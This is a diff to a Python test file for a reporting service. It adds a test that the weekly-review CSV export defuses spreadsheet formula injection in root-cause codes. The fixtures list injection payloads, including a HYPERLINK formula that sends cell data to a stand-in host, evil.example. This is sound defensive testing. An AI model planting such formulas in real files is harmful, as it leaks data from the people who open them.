@@ -32,8 +32,11 @@ from reporting_service.testing import cloud
 SECRET = "test-secret-for-reporting-review-012345"
 AUTH = {"Authorization": f"Bearer {issue_token(SECRET, 'sue', ['supervisor'])}"}
 ACCOUNT = uuid4()
+# Codes an admin could type into the taxonomy that a spreadsheet would run as formulas.
+FORMULA_CODES = ['=HYPERLINK("https://evil.example/?"&A1)', "+1+1", "-2+3", "@SUM(A1)"]
 CAUSES = {code: RootCause(category_id=uuid4(), category_code=code, category_name=name)
-          for code, name in [("billing_error", "Billing error"), ("rate_plan", "Rate plan")]}
+          for code, name in [("billing_error", "Billing error"), ("rate_plan", "Rate plan"),
+                             *((code, "Hostile") for code in FORMULA_CODES)]}
 
 
 def closed(code: str, invoice: UUID, day: int) -> CaseClosed:
@@ -59,7 +62,8 @@ async def client(fresh_database) -> AsyncIterator[httpx.AsyncClient]:
         await project_billing_event(conn, cloud(invoice))
     # W47 (16-22 Nov): three billing errors on 1,000 each, one rate plan on 5,000; W46: one
     for case in [closed("billing_error", invoices[1_000], day) for day in (16, 18, 20)] + [
-            closed("rate_plan", invoices[5_000], 19), closed("billing_error", invoices[1_000], 10)]:
+            closed("rate_plan", invoices[5_000], 19), closed("billing_error", invoices[1_000], 10),
+            *(closed(code, invoices[1_000], 3) for code in FORMULA_CODES)]:  # W45
         await project_cases_event(conn, cloud(case, source="urn:cases"))
     await conn.close()
     async with running_server(build_app(SPEC, SPEC.settings(database_url=url,
@@ -115,6 +119,19 @@ async def test_weekly_review_as_csv(client: httpx.AsyncClient):
             billing_error["sop_candidate"]) == ("3", "1", "yes")
     assert by_item[("root_cause_amount_minor", "rate_plan")]["this_week"] == "5000"
     assert by_item[("kpi", "Cases closed")]["this_week"] == "4"
+
+
+async def test_the_csv_hands_a_spreadsheet_no_formula_and_keeps_numbers(
+        client: httpx.AsyncClient):
+    response = await client.get("/v1/reports/weekly-review", headers={**AUTH, "Accept": "text/csv"},
+                                params={"week": "2026-W45"})
+    assert response.status_code == 200
+    rows = list(csv.DictReader(io.StringIO(response.text)))
+    causes = [r for r in rows if r["section"] == "root_cause_cases"]
+    assert sorted(r["item"] for r in causes) == sorted(f"'{code}" for code in FORMULA_CODES)
+    assert {r["this_week"] for r in causes} == {"1"}
+    amounts = [r for r in rows if r["section"] == "root_cause_amount_minor"]
+    assert {r["this_week"] for r in amounts} == {"1000"}
 
 
 async def test_weekly_review_as_html_with_charts_and_as_png(client: httpx.AsyncClient):
